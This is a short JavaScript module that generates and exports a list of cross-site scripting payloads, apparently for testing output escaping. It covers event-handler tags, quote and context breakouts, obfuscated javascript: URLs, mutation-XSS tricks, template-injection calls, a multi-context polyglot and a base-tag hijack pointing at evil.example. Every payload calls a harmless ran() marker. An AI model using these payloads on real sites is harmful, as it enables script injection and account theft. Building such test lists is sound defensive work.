/** What a script that runs calls. */
const run = "ran()";
const handlers = [
  "onerror",
  "onload",
  "onfocus",
  "onmouseover",
  "onpointerenter",
  "ontoggle",
  "onanimationstart",
  "onbegin",
];
const tags = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video src=x",
  "iframe",
  "math",
];
const quotes = [
  "",
  '">',
  "'>",
  "`>",
  "</title>",
  "</script>",
  "</textarea>",
  "-->",
  "</style>",
  "]]>",
];

/** Texts that run a script wherever they are written unescaped: in HTML, an attribute, a script, a link. */
const scriptTexts = [
  ...quotes.flatMap((quote) => [
    `${quote}<script>${run}</script>`,
    `${quote}<img src=x onerror=${run}>`,
  ]),
  ...handlers.map((handler, at) => `"><${tags[at]} ${handler}=${run}>`),
  ...handlers.map((handler) => `" ${handler}=${run} x="`),
  ...[";", "'-", '"-', '\\"-', "'+", "${", "*/", "</script><script>"].map(
    (start) => `${start}${run}//`,
  ),
  ...[
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "\u0001javascript:",
    "javascript&colon;",
    "data:text/html,",
  ].map((scheme) =>
    scheme.startsWith("data") ? `${scheme}<script>${run}</script>` : scheme + run,
  ),
  `<svg><animate onbegin=${run} attributeName=x></svg>`,
  `<svg/onload=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<a href="javascript:${run}">x</a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `{{constructor.constructor("${run}")()}}`,
  `"><base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<style>@import"javascript:${run}"</style>`,
  `<object data="javascript:${run}">`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>`,
];

export const polyglots: readonly string[] = [...new Set(scriptTexts)];
